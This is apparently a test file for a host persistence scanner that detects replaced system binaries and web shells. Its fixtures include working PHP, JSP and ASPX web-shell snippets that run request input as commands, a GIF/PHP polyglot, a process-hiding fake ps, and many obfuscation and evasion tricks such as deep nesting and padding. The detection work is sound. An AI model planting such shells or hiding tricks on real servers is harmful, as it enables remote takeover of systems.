/**
 * Binaries replaced in place (dpkg: scripts against md5sums, set-id against the stock list and statoverride,
 * links into temporary places; rpm: sizes and modes from a real rpm database) and web shells (PHP, JSP, ASPX,
 * .htaccess, configured roots, binary junk, package-installed files quiet, bounded walk).
 */
import assert from "node:assert/strict";
import { persistence } from "../../src/scanners/persistence/index.ts";
import { needs } from "../host_caps.ts";
import { makeTree, runOne, sh } from "../helpers.ts";
import { dpkgOwns, md5, summary, withAccounts } from "./persistence_fixtures.ts";

const LSB = "#!/usr/bin/python3 -Es\nimport lsb_release\nlsb_release.main()\n";
const FAKE_PS = '#!/bin/sh\n/usr/bin/.ps.real "$@" | grep -v -e kw0rker\n';

Deno.test("persistence binaries (dpkg): a packaged program that is now another script, set-id added, a link to /tmp (/bin not merged)", async () => {
  using root = makeTree(withAccounts({
    "usr/bin/ps": { content: FAKE_PS, mode: 0o755 },
    "usr/bin/lsb_release": { content: LSB, mode: 0o755 },
    "usr/bin/find": { content: "\u007fELF not really", mode: 0o4755 },
    "usr/bin/passwd": { content: "\u007fELF not really", mode: 0o4755 },
    "usr/bin/ksu2": { content: "\u007fELF not really", mode: 0o4755 },
    "bin/su": { content: "\u007fELF not really", mode: 0o4755 },
    "usr/bin/top": { symlink: "/tmp/.t/top" },
    "usr/bin/vi": { symlink: "/etc/alternatives/vi" },
    "etc/alternatives/vi": { symlink: "/usr/bin/vim.basic" },
    "usr/bin/vim.basic": { content: "\u007fELF", mode: 0o755 },
    "usr/bin/local-tool": { content: "#!/bin/sh\necho mine\n", mode: 0o755 },
    "var/lib/dpkg/statoverride": "root root 4755 /usr/bin/ksu2\n",
    ...dpkgOwns("procps", ["/usr/bin/ps", "/usr/bin/top"], {
      "/usr/bin/ps": "0123456789abcdef0123456789abcdef",
    }),
    ...dpkgOwns("lsb-release", ["/usr/bin/lsb_release"], { "/usr/bin/lsb_release": await md5(LSB) }),
    ...dpkgOwns("findutils", ["/usr/bin/find"]),
    ...dpkgOwns("passwd", ["/usr/bin/passwd"]),
    ...dpkgOwns("util-linux", ["/bin/su"]),
    ...dpkgOwns("krb5-user", ["/usr/bin/ksu2"]),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(summary(r.findings), [
    "high persistence.binary.replaced /usr/bin/ps",
    "high persistence.binary.replaced /usr/bin/top",
    "medium persistence.binary.setid_added /usr/bin/find",
  ]);
  const ps = r.findings.find((f) => f.metadata.path === "/usr/bin/ps")!;
  assert.equal(ps.metadata.package, "procps");
  assert.match(ps.description, /is a script whose md5 differs/);
  assert.match(
    r.findings.find((f) => f.metadata.path === "/usr/bin/top")!.description,
    /link to \/tmp\/\.t\/top/,
  );
  assert.deepEqual(r.warnings, []);
  // --fast-scan judges no packaged file (that reads the package database) but still the links, and says so.
  const fast = await runOne(persistence, root.path, { persistenceRecentDays: 0, fastScan: true });
  assert.deepEqual(summary(fast.findings), ["high persistence.binary.replaced /usr/bin/top"]);
  assert.deepEqual(fast.warnings.map((w) => w.code), ["fast_scan_skipped", "fast_scan_skipped"]);
  assert.match(fast.warnings[0].detail!, /^--fast-scan: maintainer scripts of installed packages/);
  assert.match(
    fast.warnings[1].detail!,
    /^--fast-scan: package ownership of \d+ file\(s\) \(programs replaced/,
  );
  const asked = await runOne(persistence, root.path, {
    persistenceRecentDays: 0,
    fastScan: true,
    integrity: true,
  });
  assert.deepEqual(summary(asked.findings), summary(r.findings), "--integrity asks for package checks");
});

Deno.test("persistence binaries (dpkg): a critical package's program swapped for another ELF is replaced", async () => {
  const real = "\u007fELF real sshd";
  using root = makeTree(withAccounts({
    "usr/sbin/sshd": { content: "\u007fELF trojaned sshd", mode: 0o755 },
    "usr/bin/ls": { content: "\u007fELF real ls", mode: 0o755 },
    "usr/bin/htop": { content: "\u007fELF changed, not critical", mode: 0o755 },
    ...dpkgOwns("openssh-server", ["/usr/sbin/sshd"], { "/usr/sbin/sshd": await md5(real) }),
    ...dpkgOwns("coreutils", ["/usr/bin/ls"], { "/usr/bin/ls": await md5("\u007fELF real ls") }),
    ...dpkgOwns("htop", ["/usr/bin/htop"], { "/usr/bin/htop": await md5("\u007fELF the packaged one") }),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(r.findings), ["high persistence.binary.replaced /usr/sbin/sshd"]);
  assert.match(r.findings[0].description, /is a program of openssh-server whose md5 differs/);
  // Under --fast-scan the package database is not read: nothing is hashed.
  const fast = await runOne(persistence, root.path, { persistenceRecentDays: 0, fastScan: true });
  assert.deepEqual(summary(fast.findings), []);
});

Deno.test("persistence binaries (dpkg): a critical program padded past the hashing bound is said, not skipped", async () => {
  using root = makeTree(withAccounts({
    "usr/bin/ls": { content: "\u007fELF trojaned ls", mode: 0o755 },
    "usr/bin/dir": { content: "\u007fELF real dir", mode: 0o755 },
    ...dpkgOwns("coreutils", ["/usr/bin/ls", "/usr/bin/dir"], {
      "/usr/bin/ls": await md5("\u007fELF real ls"),
      "/usr/bin/dir": await md5("\u007fELF real dir"),
    }),
  }));
  // Zeros after the program (a sparse 65 MiB file): it still runs, and was not hashed.
  Deno.truncateSync(`${root.path}/usr/bin/ls`, 65 << 20);
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(r.findings), ["high persistence.binary.replaced /usr/bin/ls"]);
  assert.match(r.findings[0].description, /larger than 64 MiB/);
});

Deno.test("persistence binaries: without a package database the program files are not judged, and that is said", async () => {
  using root = makeTree(withAccounts({ "usr/bin/ps": { content: FAKE_PS, mode: 0o755 } }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(r.findings, []);
  assert.deepEqual(r.warnings.map((w) => w.code), ["no_package_db"]);
  assert.match(r.warnings[0].detail!, /1 file\(s\) not checked \(e\.g\. \/usr\/bin\/ps\)/);
});

const SPEC = `Name: coreutils-fixture
Version: 1
Release: 1
Summary: programs whose recorded sizes and modes the persistence scanner compares
License: none
BuildArch: noarch
%description
test fixture
%install
mkdir -p %{buildroot}/usr/bin
printf 'ELF program of 28 bytes.....' > %{buildroot}/usr/bin/ls
printf '#!/bin/sh\\necho hello\\n' > %{buildroot}/usr/bin/hello
printf 'ELF vim' > %{buildroot}/usr/bin/vim
printf 'ELF mount' > %{buildroot}/usr/bin/mount
printf 'ELF cat' > %{buildroot}/usr/bin/cat
%files
%attr(0755,root,root) /usr/bin/ls
%attr(0755,root,root) /usr/bin/hello
%attr(0755,root,root) /usr/bin/vim
%attr(4755,root,root) /usr/bin/mount
%attr(0755,root,root) /usr/bin/cat
`;

Deno.test(needs(["rpm", "root"], {
  name: "persistence binaries (rpm): sizes and modes the rpm database records decide",
  fn: async () => {
    using work = makeTree({ "SPECS/fixture.spec": SPEC });
    using root = makeTree(withAccounts({}));
    sh("/usr/bin/rpmbuild", "--define", `_topdir ${work.path}`, "-bb", `${work.path}/SPECS/fixture.spec`);
    sh(
      "/usr/bin/rpm",
      "--root",
      root.path,
      "--dbpath",
      "/var/lib/rpm",
      "--nodeps",
      "--noscripts",
      "-i",
      `${work.path}/RPMS/noarch/coreutils-fixture-1-1.noarch.rpm`,
    );
    Deno.writeTextFileSync(`${root.path}/usr/bin/ls`, "a trojaned ls that is longer than the original");
    Deno.writeTextFileSync(`${root.path}/usr/bin/hello`, "#!/bin/sh\necho HELLO WORLD\n");
    Deno.chmodSync(`${root.path}/usr/bin/vim`, 0o4755);
    const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
    assert.equal(r.status, "ok", r.reason);
    assert.deepEqual(summary(r.findings), [
      "high persistence.binary.replaced /usr/bin/hello",
      "high persistence.binary.replaced /usr/bin/ls",
      "high persistence.binary.setid_added /usr/bin/vim",
    ]);
    assert.match(
      r.findings.find((f) => f.metadata.path === "/usr/bin/ls")!.description,
      /is 46 bytes; the package recorded 28/,
    );
    assert.deepEqual(r.warnings, []);
  },
}));

const GIF = new Uint8Array([
  ...new TextEncoder().encode("GIF89a"),
  0,
  1,
  0xff,
  0xfe,
  0x80,
  ...new TextEncoder().encode("<?php passthru($_REQUEST['x']); ?>"),
  0,
  0xc3,
]);

Deno.test("persistence web shells: request input run as commands, obfuscated eval and handler overrides fire", async () => {
  using root = makeTree(withAccounts({
    "var/www/html/index.php":
      "<?php\ndefine('WP_USE_THEMES', true);\nrequire __DIR__ . '/wp-blog-header.php';\n",
    "var/www/html/wp-content/uploads/2024/05/cache.php": "<?php\n\n@system($_GET['c']);\n",
    "var/www/html/wp-content/uploads/2024/05/f.php": "<?php $f = $_POST['f']; $f($_POST['a']);",
    "var/www/html/lib/obf.php": "<?php eval(gzinflate(base64_decode('S0lNzMlXSCxLVUjLzEktUgQA')));",
    "var/www/html/up/avatar.php": { content: GIF },
    "var/www/html/.htaccess": "RewriteEngine On\nAddType application/x-httpd-php .jpg .png\n",
    "srv/http/shell.jsp": '<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
    "etc/nginx/sites-enabled/app": "server {\n  listen 80;\n  root /opt/app/public;\n  location / { }\n}\n",
    "opt/app/public/x.aspx": '<%@ Page Language="C#" %><% Process.Start("cmd.exe", "/c " + Request["c"]); %>',
    "var/www/html/phpmyadmin/lib.php": "<?php exec($_GET['q']);",
    ...dpkgOwns("phpmyadmin", ["/var/www/html/phpmyadmin/lib.php"]),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(summary(r.findings), [
    "critical persistence.webshell.exec_request /opt/app/public/x.aspx",
    "critical persistence.webshell.exec_request /srv/http/shell.jsp",
    "critical persistence.webshell.exec_request /var/www/html/up/avatar.php",
    "critical persistence.webshell.exec_request /var/www/html/wp-content/uploads/2024/05/cache.php",
    "critical persistence.webshell.exec_request /var/www/html/wp-content/uploads/2024/05/f.php",
    "high persistence.webshell.handler_override /var/www/html/.htaccess",
    "high persistence.webshell.obfuscated_eval /var/www/html/lib/obf.php",
  ]);
  const cache = r.findings.find((f) => f.metadata.path?.toString().endsWith("cache.php"))!;
  assert.deepEqual([cache.metadata.line, cache.metadata.patterns], [3, ["php_sink_request"]]);
  assert.deepEqual(r.warnings, []);
  // Under --fast-scan the package database still spares the packaged file that matched.
  const fast = await runOne(persistence, root.path, { persistenceRecentDays: 0, fastScan: true });
  assert.deepEqual(summary(fast.findings), summary(r.findings));
});

Deno.test("persistence web shells: a shell 14 directories down, which hid past the old depth of 12, is found", async () => {
  const deep = Array.from({ length: 14 }, (_, i) => `d${i}`).join("/");
  using root = makeTree(withAccounts({
    [`var/www/${deep}/x.php`]: "<?php system($_GET['c']);",
    "var/www/html/ok.php": "<?php echo 'hello';",
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(r.findings), [
    `critical persistence.webshell.exec_request /var/www/${deep}/x.php`,
  ]);
  assert.deepEqual(r.warnings, []);
});

Deno.test("persistence web shells: what a bound left unread is named (buried past 64 levels, padded past 4 MiB)", async () => {
  // What the web server's account can do after one upload: bury the shell, or pad it so that its code lies past
  // what is read. Neither is reported as clean.
  const deep = Array.from({ length: 70 }, () => "d").join("/");
  const padding = "/*" + " ".repeat(4 << 20) + "*/";
  using root = makeTree(withAccounts({
    [`var/www/${deep}/x.php`]: "<?php system($_GET['c']);",
    "var/www/html/big.php": `<?php ${padding} system($_GET['c']);`,
    "var/www/html/ok.php": "<?php echo 'hello';",
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  const unread = r.findings.filter((f) => f.check_id === "persistence.webshell.unexamined");
  assert.deepEqual(unread.map((f) => [f.severity, f.metadata.bound, f.metadata.path]), [
    ["medium", "file_size", "/var/www/html/big.php"],
    ["medium", "depth", `/var/www/${Array.from({ length: 64 }, () => "d").join("/")}`],
  ]);
  assert.match(
    unread[0].description,
    /only its first 4 MiB were read; a web shell there would not have been seen/,
  );
  assert.ok(
    !r.findings.some((f) => f.check_id === "persistence.webshell.exec_request"),
    "neither shell was read",
  );
  assert.ok(!r.warnings.some((w) => w.code === "truncated"), "said as findings, not warnings");
});

Deno.test("persistence web shells: a runner's name built from constants and called through a variable fires", async () => {
  using root = makeTree(withAccounts({
    "var/www/html/health.php": "<?php $f='sys'.'tem'; $f($_POST['x']); ?>",
    "var/www/html/c.php": "<?php $a=strrev('metsys'); $a($_COOKIE['c']); ?>",
    "var/www/html/h.php": '<?php $k = "\\x73\\x68\\x65\\x6c\\x6c_\\x65\\x78\\x65\\x63"; echo $k("id");',
    "var/www/html/r.php": "<?php $q = str_rot13('flfgrz'); call_user_func($q, getallheaders()['X']);",
    "var/www/html/b.php": "<?php $z = base64_decode('c3lzdGVt'); $z ( 'uptime' );",
    "var/lib/tomcat9/webapps/ROOT/h.jsp": '<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(summary(r.findings), [
    "critical persistence.webshell.exec_request /var/lib/tomcat9/webapps/ROOT/h.jsp",
    "critical persistence.webshell.exec_request /var/www/html/c.php",
    "critical persistence.webshell.exec_request /var/www/html/health.php",
    "critical persistence.webshell.exec_request /var/www/html/r.php",
    "high persistence.webshell.obfuscated_eval /var/www/html/b.php",
    "high persistence.webshell.obfuscated_eval /var/www/html/h.php",
  ]);
  const c = r.findings.find((f) => String(f.metadata.path).endsWith("/c.php"))!;
  assert.deepEqual(c.metadata.patterns, ["php_runner_through_variable"]);
});

Deno.test("persistence web shells: plain names through variables, callbacks and strings that only look built stay quiet", async () => {
  using root = makeTree(withAccounts({
    // phpinfo-style pages keep a plain name in a variable and call it with their own argument
    "var/www/html/info.php": "<?php $fn = 'shell_exec'; if (function_exists($fn)) echo $fn('uname -a');",
    "var/www/html/i18n.php": "<?php $t = 'trans'.'late'; $t($_GET['msg']); $s = strrev('olleh'); echo $s;",
    "var/www/html/cb.php": "<?php $cb = 'str' . 'toupper'; echo $cb($_GET['name']);",
    "var/www/html/cmp.php": "<?php if ($mode == 'sys'.'tem') { log_it($mode); }",
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(r.findings), []);
  assert.deepEqual(r.warnings, []);
});

Deno.test("persistence web shells: names built by implode, .=, str_replace, substr or case, and runners given as callbacks fire", async () => {
  using root = makeTree(withAccounts({
    "var/www/html/implode.php": "<?php $f = implode('', ['sys','tem']); $f($_POST['x']);",
    "var/www/html/join.php": "<?php $g = join(\"\", array('pass', 'thru')); $g($_GET['c']);",
    "var/www/html/legacy.php": "<?php $h = implode(['shell_', 'exec'], ''); echo $h('id');",
    "var/www/html/dot.php": "<?php $f = 'sys'; $f .= 'tem'; $f($_GET['c']);",
    "var/www/html/replace.php": "<?php $r = str_replace('X', '', 'sXyXsXtXeXm'); $r($_REQUEST['c']);",
    "var/www/html/ireplace.php": "<?php $r = str_ireplace(['Q', 'z'], '', 'eqxZeQc'); $r($_COOKIE['c']);",
    "var/www/html/lower.php": "<?php $l = strtolower('SYSTEM'); $l($_GET['c']);",
    "var/www/html/substr.php": "<?php $s = ucfirst(substr('xxpassthru', 2)); $s($_GET['c']);",
    "var/www/html/map.php": "<?php array_map(strrev('metsys'), [$_GET['c']]);",
    "var/www/html/filter.php": "<?php array_filter([$_GET['c']], 'sys'.'tem');",
    "var/www/html/cufa.php": "<?php call_user_func_array(base64_decode('c3lzdGVt'), [$_POST['x']]);",
    "var/www/html/cuf.php": "<?php $c = $_POST['x']; call_user_func('sys'.'tem', $c);",
    "var/www/html/ob.php": "<?php ob_start(implode('', ['sys', 'tem'])); echo $_GET['c']; ob_end_flush();",
    // Padding past the size up to which request input is followed through variables does not hide it.
    "var/www/html/padded.php": `<?php /*${"x".repeat(64 << 10)}*/ $f = 'sys'; $f .= 'tem'; $f($_GET['c']);`,
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(summary(r.findings), [
    "critical persistence.webshell.exec_request /var/www/html/cufa.php",
    "critical persistence.webshell.exec_request /var/www/html/dot.php",
    "critical persistence.webshell.exec_request /var/www/html/filter.php",
    "critical persistence.webshell.exec_request /var/www/html/implode.php",
    "critical persistence.webshell.exec_request /var/www/html/ireplace.php",
    "critical persistence.webshell.exec_request /var/www/html/join.php",
    "critical persistence.webshell.exec_request /var/www/html/lower.php",
    "critical persistence.webshell.exec_request /var/www/html/map.php",
    "critical persistence.webshell.exec_request /var/www/html/padded.php",
    "critical persistence.webshell.exec_request /var/www/html/replace.php",
    "critical persistence.webshell.exec_request /var/www/html/substr.php",
    "high persistence.webshell.obfuscated_eval /var/www/html/cuf.php",
    "high persistence.webshell.obfuscated_eval /var/www/html/legacy.php",
    "high persistence.webshell.obfuscated_eval /var/www/html/ob.php",
  ]);
  const patterns = (name: string) =>
    r.findings.find((f) => String(f.metadata.path).endsWith(`/${name}`))!.metadata.patterns;
  assert.deepEqual(patterns("dot.php"), ["php_runner_through_variable"]);
  assert.deepEqual(patterns("map.php"), ["php_runner_callback"]);
  assert.deepEqual(patterns("cufa.php"), ["php_sink_request", "php_runner_callback"]);
  assert.deepEqual(patterns("cuf.php"), ["php_hidden_runner_name"]);
});

Deno.test("persistence web shells: the same building of harmless names, and runner names that are listed, not called, stay quiet", async () => {
  using root = makeTree(withAccounts({
    "var/www/html/implode.php":
      "<?php $f = implode('', ['trans','late']); $f($_POST['x']); echo implode(', ', ['system', 'exec']);",
    "var/www/html/join.php":
      "<?php $n = join('', array('sys', 'tem')); echo \"mode: $n\"; log_it($n, $_GET['q']);",
    "var/www/html/dot.php":
      "<?php $f = 'trans'; $f .= 'late'; $f($_GET['c']); $sql = 'SELECT'; $sql .= ' system'; q($sql);",
    "var/www/html/replace.php": "<?php $r = str_replace('X', '', 'tXrXim'); echo $r($_REQUEST['c']);",
    "var/www/html/lower.php":
      "<?php $l = strtolower('TRIM'); echo $l($_GET['c']); $u = ucfirst(substr('xsystem', 1));",
    "var/www/html/callbacks.php":
      "<?php $a = array_map('trim', $_GET['list']); $b = array_filter($_POST, 'strlen'); usort($rows, 'str' . 'cmp'); echo call_user_func('str'.'rev', $x); ob_start('ob_gz' . 'handler');",
    "var/www/html/plain.php":
      "<?php array_walk($jobs, 'exec'); register_shutdown_function('system', 'sync');",
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(r.findings), []);
  assert.deepEqual(r.warnings, []);
});
